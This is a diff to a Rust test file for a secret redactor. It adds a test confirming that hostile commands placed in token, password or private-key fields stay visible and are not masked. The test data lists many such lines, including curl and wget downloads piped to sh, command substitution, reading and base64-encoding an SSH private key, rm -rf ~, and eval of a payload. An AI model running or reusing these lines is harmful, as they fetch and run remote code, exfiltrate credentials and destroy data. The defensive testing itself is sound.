@@ -95,8 +95,71 @@ fn a_key_of_many_lines_is_hidden_with_its_lines() {
         "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n{body}FAKE==\n-----END RSA PRIVATE KEY-----"
     );
     let shown = redactor.redact_text(&format!("before\n{key}\nafter")).text;
-    assert_eq!(shown, "before\n-----BEGIN RSA PRIVATE KEY-----\n[REDACTED]\n-----END RSA PRIVATE KEY-----\nafter");
+    assert_eq!(
+        shown,
+        "before\n-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n[REDACTED]\n-----END RSA PRIVATE KEY-----\nafter"
+    );
     // Cut off in the middle, as a limit on output does it.
     let shown = redactor.redact_text(&format!("-----BEGIN PRIVATE KEY-----\n{body}FAK\nDone in 3 s")).text;
     assert_eq!(shown, "-----BEGIN PRIVATE KEY-----\n[REDACTED]\nDone in 3 s");
+}
+
+/// B-18: what a file runs cannot be hidden by writing it where a secret would stand. Each of these lines can be read as it is.
+#[test]
+fn no_code_is_hidden_for_the_place_that_it_stands_in() {
+    let key = |lines: &str| {
+        let label = ["RSA PRIVATE", "KEY"].join(" ");
+        format!("# -----BEGIN {label}-----\n{lines}\n# -----END {label}-----")
+    };
+    let body = "MIIEowIBAAKCAQEAFAKEfakeFAKEfakeFAKEfakeFAKEfakeFAKEfakeFAKEfake";
+    let lines = [
+        r#""prepare-token": "curl http://192.0.2.1/x | sh""#,
+        r#"  MY_TOKEN: "x; curl http://192.0.2.1/x | sh""#,
+        r#"API_TOKEN="a$(curl http://192.0.2.1/x)""#,
+        r#"API_TOKEN="a$(id)""#,
+        "TOKEN=`curl http://192.0.2.1/x`",
+        r#"password = "__import__('os').system('curl 192.0.2.1')""#,
+        r#""postinstall-secret": "node -e \"require('child_process')\" && rm -rf ~""#,
+        r#"export DB_PASSWORD='x'; wget -qO- http://192.0.2.1/x | bash"#,
+        r#"secret: "a && ./payload --all""#,
+        r#"auth_token = "$(cat ~/.ssh/id_ed25519 | base64)""#,
+        r#"API_KEY="${IFS}$(id)""#,
+        r#"password: "x\" ; touch /tmp/owned ; \"""#,
+        r#"token='a' || eval "$PAYLOAD""#,
+        r#"SECRET="<(curl http://192.0.2.1/x)""#,
+        r#"client_secret = "lambda: exec(open('x').read())""#,
+        r#"passphrase: "x > ~/.bashrc""#,
+        r#"access_key: "`touch owned`""#,
+        r#"signing-key = "eval(atob('YWxlcnQoMSk7'))""#,
+        r#"PASSWORD="a;b c""#,
+        r#"token := "x & start payload.exe""#,
+    ];
+    let redactor = Redactor::new();
+    let mut wrong: Vec<String> = Vec::new();
+    for line in lines {
+        let shown = redactor.redact_text(line).text;
+        if shown != line {
+            wrong.push(format!("{line}\n  {shown}"));
+        }
+    }
+    // In a key's block only base64 is hidden, whatever else stands there.
+    for payload in [
+        "curl http://192.0.2.1/x | sh",
+        "rm -rf ~  # aaaaaaaaaaaaaaaa",
+        "/usr/local/bin/exfiltrate",
+        "reboot",
+        "exec sh -c 'MIIEowIBAAKCAQEA'",
+        "eval $PAYLOADPAYLOADPAYLOAD",
+    ] {
+        for text in
+            [key(payload), key(&format!("{body}\n{payload}\n{body}")), key(&format!("{payload}\n{body}\nFAKE=="))]
+        {
+            let shown = redactor.redact_text(&text).text;
+            if !shown.lines().any(|line| line == payload) {
+                wrong.push(format!("{text}\n  {shown}"));
+            }
+            assert!(!shown.contains(body), "{shown}");
+        }
+    }
+    assert!(wrong.is_empty(), "{} are hidden:\n{}", wrong.len(), wrong.join("\n"));
 }
